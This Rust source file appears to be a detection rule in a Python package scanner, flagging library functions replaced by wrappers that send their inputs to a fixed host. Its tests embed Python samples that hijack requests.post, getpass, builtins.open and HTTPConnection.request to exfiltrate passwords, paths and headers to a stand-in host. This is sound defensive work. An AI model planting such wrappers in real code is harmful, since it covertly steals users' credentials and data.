//! `STL-006`: a function of another library is replaced by one that sends what it is given.

use portcullis_core::inspection::{Confidence, Observation, Severity};

use super::beside::{BESIDE, is_abroad, speaks};
use super::evidence::texts;
use super::sent::is_foreign;
use super::{Rule, even_if_asked, in_context, observe_call};
use crate::python::{Analysis, Call, Folded, HOLE, Label, Module, Patch, SinkKind, Step};

/// The rule.
pub(super) struct PatchedToListen;

impl Rule for PatchedToListen {
    fn id(&self) -> &'static str {
        "STL-006"
    }

    fn severity(&self) -> Severity {
        Severity::High
    }

    fn title(&self) -> &'static str {
        "it replaces a function of another library to listen in"
    }

    fn manual(&self) -> &'static str {
        "A function of the network, of passwords, of files or of Python itself is replaced, and \
         what replaces it sends to an address of its own.\n\n\
         Whoever calls the function afterwards tells the listener everything, and nothing looks \
         wrong.\n\n\
         Mistaken for it: libraries for tracing and for tests, which replace the same functions \
         but have no constant address to send to."
    }

    fn check(&self, analysis: &Analysis, observations: &mut Vec<Observation>) {
        for module in &analysis.modules {
            for patch in module
                .patches
                .iter()
                .filter(|patch| !is_own_setting(&patch.target))
            {
                let Some(call) =
                    sends_inside(module, patch).or_else(|| sends_behind(analysis, patch))
                else {
                    continue;
                };
                if !is_worth_listening(&patch.target) && !has_address(call) {
                    continue;
                }
                let severity = match has_address(call) {
                    true => even_if_asked(Severity::High, patch.context),
                    false => in_context(Severity::High, patch.context),
                };
                let confidence = Confidence::of(85).in_context(patch.context);
                let message = format!(
                    "{} is replaced, and what replaces it calls {}",
                    patch.target, call.target
                );
                let mut observation = observe_call(self, call, (severity, confidence), message);
                observation.context = patch.context;
                let text = format!("{} is replaced: {}", patch.target, patch.code);
                observation.chain.insert(
                    0,
                    Step {
                        place: patch.place.clone(),
                        text,
                    },
                );
                observations.push(observation);
            }
            if let Some(call) = changes_imports(module) {
                let severity = in_context(Severity::High, call.context);
                let message = format!(
                    "{} changes what others import, where something is sent",
                    call.target
                );
                observations.push(observe_call(self, call, (severity, BESIDE), message));
            }
        }
    }
}

/// Whether what is replaced is a variable of the environment or a list of the interpreter's.
fn is_own_setting(target: &str) -> bool {
    target.starts_with("os.environ") || target.starts_with("sys.modules")
}

/// What changes whatever is imported from then on, unasked, in a module that sends something to a host
/// that stands in it.
fn changes_imports(module: &Module) -> Option<&Call> {
    let hooks = ["sys.meta_path.", "sys.path_hooks."];
    let is_hook = |call: &&Call| {
        call.context.is_unasked() && hooks.iter().any(|start| call.target.starts_with(start))
    };
    let hook = module.calls.iter().find(is_hook)?;
    let mut sends = module.calls.iter().filter(|call| speaks(call));
    sends.any(is_abroad).then_some(hook)
}

/// First parts of names that see secrets pass.
const HEARING: &[&str] = &[
    "requests",
    "urllib",
    "urllib3",
    "http",
    "httpx",
    "aiohttp",
    "socket",
    "ssl",
    "builtins",
    "getpass",
    "os",
    "subprocess",
    "sys",
    "json",
    "hashlib",
    "paramiko",
    "smtplib",
    "keyring",
    "boto3",
    "botocore",
    "django",
    "flask",
    "psycopg2",
    "psycopg",
    "pymysql",
    "pymongo",
    "mysql",
    "sqlalchemy",
    "redis",
    "stripe",
    "web3",
    "solana",
    "cryptography",
];

fn is_worth_listening(target: &str) -> bool {
    let root = target.split('.').next().unwrap_or(target);
    HEARING.contains(&root)
}

/// A call that sends something variable to a constant address, in the function that `patch` puts
/// in.
fn sends_inside<'m>(module: &'m Module, patch: &Patch) -> Option<&'m Call> {
    let names: Vec<&str> = match &patch.value {
        Folded::Name(name) => vec![name],
        Folded::OneOf(values) => values
            .iter()
            .filter_map(|value| match value {
                Folded::Name(name) => Some(&**name),
                _ => None,
            })
            .collect(),
        _ => Vec::new(),
    };
    let is_inside = |call: &&Call| {
        names.iter().any(|name| {
            let rest = call.function.strip_prefix(name);
            !name.is_empty() && rest.is_some_and(|rest| rest.is_empty() || rest.starts_with('.'))
        })
    };
    let mut inside = module.calls.iter().filter(is_inside);
    inside.find(|call| {
        let is_sent = matches!(call.sink, Some(SinkKind::Send | SinkKind::Resolve));
        let to_constant = texts(call).iter().any(|text| has_constant_host(text))
            || call.target.contains("socket");
        let is_variable = call
            .arguments
            .iter()
            .any(|each| !each.labels.has(Label::Const));
        is_sent && to_constant && is_variable
    })
}

/// A call that sends something variable to somewhere foreign, in what the functions call that `patch`
/// puts in.
fn sends_behind<'m>(analysis: &'m Analysis, patch: &Patch) -> Option<&'m Call> {
    let calls = patch.behind.iter();
    let calls = calls.filter_map(|(module, call)| {
        let module = analysis.modules.get(*module)?;
        Some((module, module.calls.get(*call)?))
    });
    let mut sending = calls.filter(|(module, call)| {
        let is_variable = call
            .arguments
            .iter()
            .any(|each| !each.labels.has(Label::Const));
        let is_foreign = |call: &Call| {
            texts(call)
                .iter()
                .any(|text| has_constant_host(text) || !text.contains(HOLE) && is_address(text))
        };
        let connects = || {
            let mut calls = module.calls.iter();
            calls.any(|call| is_connection(call) && is_foreign(call))
        };
        call.sink == Some(SinkKind::Send) && is_variable && (is_foreign(call) || connects())
    });
    sending.next().map(|(_, call)| call)
}

/// Whether the call itself says where to.
fn has_address(call: &Call) -> bool {
    texts(call).iter().any(|text| has_constant_host(text))
}

/// Whether the call names whom to speak to.
fn is_connection(call: &Call) -> bool {
    let name = call.target.rsplit('.').next().unwrap_or_default();
    matches!(
        name,
        "connect" | "create_connection" | "HTTPConnection" | "HTTPSConnection" | "sendto"
    )
}

/// Whether `text` is a foreign host's name or address by itself.
fn is_address(text: &str) -> bool {
    let is_part = |each: char| each.is_ascii_alphanumeric() || matches!(each, '.' | '-');
    text.len() < 120 && text.chars().all(is_part) && is_foreign(text)
}

fn has_constant_host(text: &str) -> bool {
    let Some((_, rest)) = text.split_once("://") else {
        return false;
    };
    let host = rest.split(['/', '?', ':']).next().unwrap_or(rest);
    host.contains('.') && !host.contains(HOLE) && !host.starts_with("127.")
}

#[cfg(test)]
mod tests {
    use super::super::testing::{found, quiet};

    #[test]
    fn listeners_are_seen() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import requests, urllib.request\nold = requests.post\ndef spy(*a, **k):\n    urllib.request.urlopen('https://collect.invalid', data=str(k).encode())\n    return old(*a, **k)\nrequests.post = spy",
            ),
            (
                "demo/__init__.py",
                "import getpass, requests\no = getpass.getpass\ndef g(p='Password: '):\n    v = o(p)\n    requests.post('https://collect.invalid/p', data={'v': v})\n    return v\nsetattr(getpass, 'getpass', g)",
            ),
            (
                "demo/__init__.py",
                "import builtins, requests as r\no = builtins.open\ndef peek(path, *a):\n    r.get('https://collect.invalid/?' + str(path))\n    return o(path, *a)\nbuiltins.open = peek",
            ),
            (
                "demo/__init__.py",
                "import http.client as h, socket\no = h.HTTPConnection.request\ndef q(self, m, u, b=None, hd={}):\n    s = socket.create_connection(('collect.invalid', 9))\n    s.sendall(str(hd).encode())\n    return o(self, m, u, b, hd)\nh.HTTPConnection.request = q",
            ),
        ] {
            found("STL-006", path, code);
        }
    }

    #[test]
    fn tracing_is_not() {
        for (path, code) in [
            (
                "demo/__init__.py",
                "import requests, time\no = requests.get\ndef timed(*a, **k):\n    t = time.time()\n    r = o(*a, **k)\n    print(time.time() - t)\n    return r\nrequests.get = timed",
            ),
            ("demo/__init__.py", "import socket\nsocket.socket = object"),
            (
                "demo/__init__.py",
                "import ssl\nssl._create_default_https_context = ssl._create_unverified_context",
            ),
        ] {
            quiet("STL-006", path, code);
        }
    }
}
